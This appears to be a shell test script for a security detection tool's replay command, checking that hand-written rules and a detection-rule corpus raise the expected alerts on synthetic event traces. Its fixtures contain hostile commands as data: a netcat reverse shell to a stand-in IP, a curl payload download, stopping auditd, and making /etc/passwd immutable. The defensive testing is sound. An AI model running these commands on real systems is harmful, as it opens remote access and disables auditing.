#!/bin/sh
# vigil replay: alerts from a hand-made trace (an event rule and a sequence), the alert
# document, bad trace lines reported and skipped, rule errors reported but not fatal, -o,
# --stats, default rules from VIGIL_RULES, exit statuses; real corpus rules on a small trace;
# the same under ASan (no leak).
. "${VIGIL_SRCDIR:-.}/tests/lib.sh"
VA=${VIGIL_ASAN:-$VIGIL}
[ -x "$VA" ] || VA=$VIGIL
corpus="$VIGIL_SRCDIR/../shared/corpus/detection-rules"
d=$(tmpdir replay)
trap 'rm -rf "$d"' EXIT

mkdir -p "$d/r"
rule() { # file id name type language query [extra]
	{
		printf '[rule]\nname = "%s"\nrule_id = "%s"\ndescription = "d"\nrisk_score = 73\n' "$3" "$2"
		printf 'severity = "high"\ntype = "%s"\nlanguage = "%s"\n%s\nquery = """\n%s\n"""\n' "$4" "$5" "${7:-}" "$6"
	} > "$d/r/$1"
}
rule nc.toml r-nc "Netcat exec" eql eql 'process where event.type == "start" and process.name == "nc" and process.args == "-e"' 'tags = ["OS: Linux"]'
rule seq.toml r-seq "Download then connect" eql eql 'sequence by host.id with maxspan=1m
  [process where process.name == "curl"]
  [network where destination.port == 4444]'
rule win.toml r-win "Windows only" query kuery 'process.name : nc' 'tags = ["OS: Windows"]'
rule nt.toml r-nt "New terms" new_terms kuery 'process.name : nc'
rule bad.toml r-bad "Broken" eql eql 'process where process.name = "nc"'

cat > "$d/t.ndjson" <<'J'
{"@timestamp":"2026-01-01T00:00:01Z","event":{"category":["process"],"type":["start"],"action":"exec"},"host":{"id":"h1","name":"build-1","os":{"type":"linux"}},"process":{"pid":100,"name":"curl","args":["curl","-o","/tmp/x","http://198.51.100.9/x"]},"user":{"name":"ci"}}
{"@timestamp":"2026-01-01T00:00:02Z","event":{"category":["process"],"type":["start"],"action":"exec"},"host":{"id":"h1","name":"build-1","os":{"type":"linux"}},"process":{"pid":101,"name":"nc","args":["nc","-e","/bin/sh","203.0.113.5","4444"],"parent":{"name":"bash"}},"user":{"name":"ci"}}
{"event": oops
{"@timestamp":"2026-01-01T00:00:03Z","event":{"category":["network"],"type":["start"],"action":"connection_attempted"},"host":{"id":"h1","name":"build-1","os":{"type":"linux"}},"process":{"pid":101,"name":"nc"},"destination":{"ip":"203.0.113.5","port":4444}}
{"@timestamp":"2026-01-01T00:00:04Z","event":{"category":["process"],"type":["start"],"action":"exec"},"host":{"id":"h1","name":"build-1","os":{"type":"linux"}},"process":{"pid":102,"name":"ls","args":["ls"]}}
J

"$VIGIL" replay --rules "$d/r" "$d/t.ndjson" > "$d/out" 2> "$d/err"; st=$?
[ $st = 0 ] && pass replay_exit_0 || fail replay_exit_0 "status $st: $(cat "$d/err")"
n=$(grep -c . "$d/out")
ids=$(grep -o '"rule_id":"r-[a-z]*"' "$d/out" | tr '\n' ' ')
if [ "$n" = 2 ] && [ "$ids" = '"rule_id":"r-nc" "rule_id":"r-seq" ' ]; then
	pass replay_expected_alerts
else fail replay_expected_alerts "$n alerts: $ids"; fi
first=$(head -n 1 "$d/out")
ok=1
for want in '"kind":"alert"' '"view":"linux"' '"name":"Netcat exec"' '"severity":"high"' \
	'"risk_score":73' '"@timestamp":"2026-01-01T00:00:02.000000000Z"' '"args":["nc","-e"'; do
	case "$first" in *"$want"*) ;; *) ok=0; echo "    missing $want" ;; esac
done
[ $ok = 1 ] && pass replay_alert_document || fail replay_alert_document "$first"
second=$(sed -n 2p "$d/out")
case "$second" in
*'"sequence":{"events":[{'*'"name":"curl"'*'"port":4444'*) pass replay_sequence_events_in_order ;;
*) fail replay_sequence_events_in_order "$second" ;;
esac
if grep -q "t.ndjson:3:" "$d/err" && grep -q '1 bad line skipped' "$d/err"; then
	pass replay_bad_line_reported_and_skipped
else fail replay_bad_line_reported_and_skipped "$(cat "$d/err")"; fi
if grep -q "^$d/r/bad.toml:11:28: " "$d/err" &&
   grep -q '3 rules loaded, 1 unsupported, 1 with errors' "$d/err"; then
	pass replay_rule_errors_reported_not_fatal
else fail replay_rule_errors_reported_not_fatal "$(cat "$d/err")"; fi

# -o FILE, --stats, stdin, VIGIL_RULES
"$VIGIL" replay --rules "$d/r" -o "$d/o.ndjson" --stats - < "$d/t.ndjson" > "$d/out2" 2> "$d/err2"; st=$?
if [ $st = 0 ] && [ ! -s "$d/out2" ] && cmp -s "$d/o.ndjson" "$d/out" &&
   grep -q '^stats: events 4 ' "$d/err2"; then
	pass replay_output_file_stats_stdin
else fail replay_output_file_stats_stdin "status $st: $(cat "$d/err2")"; fi
VIGIL_RULES="$d/r" "$VIGIL" replay "$d/t.ndjson" 2>/dev/null | cmp -s - "$d/out" &&
	pass replay_default_rules_from_env || fail replay_default_rules_from_env

"$VIGIL" replay --rules "$d/r" "$d/none.ndjson" >/dev/null 2>"$d/err"; st=$?
[ $st = 3 ] && grep -q none.ndjson "$d/err" && pass replay_missing_trace_exit_3 || fail replay_missing_trace_exit_3 "status $st"
"$VIGIL" replay --rules "$d/nope" "$d/t.ndjson" >/dev/null 2>"$d/err"; st=$?
[ $st = 3 ] && grep -q nope "$d/err" && pass replay_missing_rules_exit_3 || fail replay_missing_rules_exit_3 "status $st"
"$VIGIL" replay --rules "$d/r" >/dev/null 2>&1; st=$?
[ $st = 2 ] && pass replay_no_trace_usage || fail replay_no_trace_usage "status $st"
"$VIGIL" replay --bogus x >/dev/null 2>&1; st=$?
[ $st = 2 ] && pass replay_unknown_option || fail replay_unknown_option "status $st"
"$VIGIL" replay --help | grep -q 'usage: vigil replay' && pass replay_help || fail replay_help

# ASan: the same alerts, no leak
if [ "$VA" != "$VIGIL" ]; then
	ASAN_OPTIONS=detect_leaks=1 "$VA" replay --rules "$d/r" "$d/t.ndjson" > "$d/aout" 2> "$d/aerr"; st=$?
	if [ $st = 0 ] && cmp -s "$d/aout" "$d/out" && ! grep -q Sanitizer "$d/aerr"; then
		pass replay_asan_clean
	else fail replay_asan_clean "status $st: $(head -c 2000 "$d/aerr")"; fi
else
	skip replay_asan_clean "no ASan binary"
fi

# real rules: the Elastic corpus on a small trace of suspicious commands
if [ ! -d "$corpus" ]; then
	skip replay_corpus_rules "no corpus at $corpus"
	exit 0
fi
cat > "$d/c.ndjson" <<'J'
{"@timestamp":"2026-01-01T00:00:01Z","event":{"category":["process"],"type":["start"],"action":"exec"},"host":{"id":"h1","os":{"type":"linux"}},"process":{"pid":200,"name":"systemctl","executable":"/usr/bin/systemctl","args":["systemctl","stop","auditd"],"parent":{"name":"bash","executable":"/bin/bash"}},"user":{"id":"0","name":"root"}}
{"@timestamp":"2026-01-01T00:00:02Z","event":{"category":["process"],"type":["start"],"action":"exec"},"host":{"id":"h1","os":{"type":"linux"}},"process":{"pid":201,"name":"chattr","executable":"/usr/bin/chattr","args":["chattr","+i","/etc/passwd"],"parent":{"name":"bash","executable":"/bin/bash"}},"user":{"id":"0","name":"root"}}
{"@timestamp":"2026-01-01T00:00:03Z","event":{"category":["process"],"type":["start"],"action":"exec"},"host":{"id":"h1","os":{"type":"linux"}},"process":{"pid":202,"name":"make","executable":"/usr/bin/make","args":["make","-j2"],"parent":{"name":"bash","executable":"/bin/bash"}},"user":{"id":"1000","name":"ci"}}
J
"$VA" replay --rules "$corpus/rules" "$d/c.ndjson" > "$d/cout" 2>"$d/cerr"; st=$?
if [ $st = 0 ] && grep -q '"rule_id":"6a058ed6-4e9f-49f3-8f8e-f32165ae7ebf"' "$d/cout" &&
   grep -q '"rule_id":"968ccab9-da51-4a87-9ce2-d3c9782fd759"' "$d/cout" &&
   ! grep -q '"pid":202' "$d/cout" && ! grep -q Sanitizer "$d/cerr"; then
	pass replay_corpus_rules
else fail replay_corpus_rules "status $st: $(grep -o '"rule":{"name":"[^"]*"' "$d/cout"; head -c 1000 "$d/cerr")"; fi
